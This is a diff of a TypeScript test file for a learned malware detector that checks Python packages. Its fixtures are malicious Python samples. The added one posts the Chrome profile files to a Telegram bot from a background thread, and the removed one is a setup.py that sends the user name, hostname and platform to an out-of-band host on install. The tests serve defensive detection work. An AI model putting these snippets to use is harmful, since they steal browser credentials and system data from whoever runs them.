@@ -7,7 +7,7 @@ import layer from '../learned-trees.generated.json' with { type: 'json' }
 import { rule } from './learned-suspicion.ts'
 
 const METADATA: MetadataFacts = {
-  file: 'PKG-INFO',
+  file: 'demo-1.0.dist-info/METADATA',
   metadataVersion: untrustedText('2.1'),
   name: untrustedText('demo'),
   version: untrustedText('1.0'),
@@ -32,27 +32,29 @@ async function find(files: Record<string, string>): Promise<ReturnType<typeof ru
   return rule.find({ source: known(await factsOf(files)), metadata: known(METADATA), archive }, CONTEXT)
 }
 
-const COLLECTS = `
-import os, socket, getpass, urllib.request, platform
-from setuptools import setup
+const SENDS = `import os, requests, threading
 
-about = {"u": getpass.getuser(), "h": socket.gethostname(), "p": platform.platform(), "d": os.getcwd()}
-urllib.request.urlopen("https://demo.oast.fun/?" + str(about))
-setup(name="demo", version="1.0")
+def run():
+    for name in os.listdir(os.path.expanduser("~/AppData/Local/Google/Chrome/User Data/Default")):
+        requests.post("https://api.telegram.org/bot123456:none/sendDocument", files={"document": open(name, "rb")})
+
+threading.Thread(target=run).start()
 `
 
 describe('the learned layer', () => {
-  it('warns of what collects and calls on its own, with the facts that spoke and their lines', async () => {
-    const [sighting, ...others] = (await find({ 'demo-1.0/setup.py': COLLECTS })) ?? []
+  it('warns of what sends files away on its own, with the facts that spoke and their lines', async () => {
+    const [sighting, ...others] = (await find({ 'demo/__init__.py': SENDS })) ?? []
     expect(others).toEqual([])
     expect(sighting?.message).toMatch(/^looks like known malware to the learned layer \(score \d+\.\d of at least [\d.]+\): \S/)
-    expect(sighting?.place.file).toBe('demo-1.0/setup.py')
+    expect(sighting?.place.file).toBe('demo/__init__.py')
     expect(sighting?.evidence?.length).toBeGreaterThan(0)
   })
 
   it('says nothing of a package without metadata that asks a service when it is called', async () => {
     const client = 'import requests\n\ndef status(url):\n    return requests.get(url, timeout=5).json()\n'
-    expect(await find({ 'demo-1.0/demo/__init__.py': client, 'demo-1.0/setup.py': 'from setuptools import setup\nsetup()\n' })).toEqual([])
+    expect(
+      await find({ 'demo-1.0/demo/__init__.py': client, 'demo-1.0/setup.py': 'from setuptools import setup\nsetup()\n' }),
+    ).toEqual([])
   })
 
   it('says nothing of an empty package', async () => {
@@ -60,7 +62,10 @@ describe('the learned layer', () => {
   })
 
   it('was measured on families that it never saw, with a seed', () => {
-    expect(layer.measured).toMatchObject({ familiesByTheLayer: expect.any(Number) as number, benignByTheLayer: expect.any(Number) as number })
+    expect(layer.measured).toMatchObject({
+      familiesByTheLayer: expect.any(Number) as number,
+      benignByTheLayer: expect.any(Number) as number,
+    })
     expect([layer.seed, layer.measured.benignByTheLayer < 1]).toEqual([1, true])
   })
 
